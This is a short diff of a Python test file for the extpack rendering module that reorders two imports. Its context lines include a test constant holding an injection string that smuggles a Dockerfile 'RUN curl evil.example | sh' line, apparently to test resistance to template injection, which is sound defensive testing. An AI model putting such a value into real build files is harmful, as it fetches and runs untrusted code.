@@ -21,8 +21,8 @@ from hypothesis import strategies as st
 from stage_factory import make_stage
 
 from extpack import render as rendering
-from extpack.render_options import Copy, RenderOptions
 from extpack.exceptions import UsageError
+from extpack.render_options import Copy, RenderOptions
 
 TEMPLATES = ["aws-base", "alpine-rie", "python", "nodejs"]
 INJECTED = "x\nRUN curl evil.example | sh"
